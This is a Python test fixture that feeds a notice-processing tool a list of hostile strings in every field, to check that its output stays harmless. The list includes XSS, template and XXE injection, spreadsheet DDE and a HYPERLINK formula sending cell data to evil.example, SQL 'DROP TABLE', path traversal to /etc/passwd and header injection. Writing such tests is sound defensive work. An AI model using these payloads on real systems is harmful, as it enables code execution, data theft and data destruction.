"""Texts that try to break out of where they are shown; each must come through every page, feed and export harmless."""

from __future__ import annotations

from typing import Any

from analyzers.notice import Notice

HOSTILE_TEXTS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>点这里</a>",
    "javascript:alert(1)//",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=q>",
    "<mark>假的标记</mark>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "{{ config.__class__.__init__.__globals__ }}",
    "<!-- 注释 --><![CDATA[ x ]]><?php echo 1 ?>",
    "]]><entry><title>假的</title></entry>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "=cmd|'/c calc'!A1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '＝HYPERLINK("https://evil.example/","点这里")',
    '=HYPERLINK("https://evil.example/?x="&A1,"点这里")',
    "\t=1+1",
    "公文\u202egpj.exe",
    "\u2066文号\u2069\u200f\u200e\u061c反向",
    "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e\u030f叠字",
    "零\u200b宽\u200d字\ufeff符\u2060号",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "'; DROP TABLE notices; --",
    '" OR 1=1 --',
    "title:* AND (source:portal OR *:*)",
    "../../../etc/passwd",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "很" * 3000,
    "W" * 3000,
)

HOSTILE_ADDRESSES: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    'https://a.example/"onmouseover="alert(1)',
    "https://user@evil.example/",
)


def hostile_notices() -> list[Notice]:
    """One notice for each text, with the text in every field that takes text."""
    return [Notice.from_record(_record(number, text)) for number, text in enumerate(HOSTILE_TEXTS)]


def _record(number: int, text: str) -> dict[str, Any]:
    address = HOSTILE_ADDRESSES[number % len(HOSTILE_ADDRESSES)]
    return {
        "id": f"hostile-{number}",
        "url": address,
        "source": text[:100],
        "title": f"{text} 农机补贴",
        "body": f"{text}\n农机补贴\t{text}\n{text}\t农机补贴\n农机补贴 {text}",
        "summary": text,
        "index_number": text,
        "document_number": text,
        "issuing_agency": [text],
        "written_date": "2011-05-16",
        "subject_category": [text],
        "genre": text,
        "disclosure_category": [text],
        "service_audience": [text],
        "validity": text,
        "keywords": [text],
        "disclosure_manner": text,
        "format": text[:20],
        "extracted_by": text,
        "attachments": [
            {"url": address, "name": f"{text}.pdf", "format": text[:20], "body": f"农机补贴 {text}"},
            {"url": f"{address}?2", "name": text, "error": text},
        ],
    }
